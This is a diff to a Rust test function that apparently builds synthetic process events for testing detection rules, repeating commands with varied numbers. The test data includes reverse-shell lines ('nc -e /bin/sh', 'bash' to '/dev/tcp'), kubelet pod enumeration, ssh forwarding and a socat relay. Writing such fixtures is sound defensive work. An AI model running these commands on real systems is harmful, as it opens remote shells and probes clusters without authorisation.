@@ -257,6 +257,37 @@ fn corpus_stream() -> Vec<ProcessEvent> {
             }
         }
     }
+    // Commands run again and again with other numbers, some of which a rule wants (the
+    // kubelet's port 10250, a forwarding spec, `hd0`): verdicts remembered by the
+    // arguments' shape must hold for every run.
+    let numbered: &[(&[u8], &str)] = &[
+        (b"/usr/bin/sleep", "sleep {n}"),
+        (b"/usr/bin/kill", "kill -{d} {n}"),
+        (b"/usr/bin/curl", "curl -k https://10.0.0.{n}:1025{d}/pods"),
+        (b"/usr/bin/kubeletctl", "kubeletctl pods 1025{d}"),
+        (b"/usr/bin/ssh", "ssh -L 80{d}:10.0.0.{n}:80 user@10.0.0.2"),
+        (b"/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 444{d}"),
+        (b"/usr/bin/socat", "socat {n}.2.3.4:80:5.6.7.8:9{d}"),
+        (b"/usr/bin/cat", "cat /proc/ide/hd{d}/model"),
+        (
+            b"/usr/bin/bash",
+            "bash -c echo {n} > /dev/tcp/10.0.0.{d}/4444",
+        ),
+    ];
+    for k in 0..12u32 {
+        for (i, (exe, line)) in numbered.iter().enumerate() {
+            let line = line
+                .replace("{n}", &(k * 37 % 251).to_string())
+                .replace("{d}", &(k % 10).to_string());
+            let argv: Vec<&[u8]> = line.split(' ').map(str::as_bytes).collect();
+            for c in [false, true] {
+                let parent = [100 + c as u32, 1000 + i as u32][k as usize % 2];
+                t += 1_000_000;
+                tgid += 1;
+                events.extend(life(tgid, parent, t, exe, &argv, c));
+            }
+        }
+    }
     events
 }
 
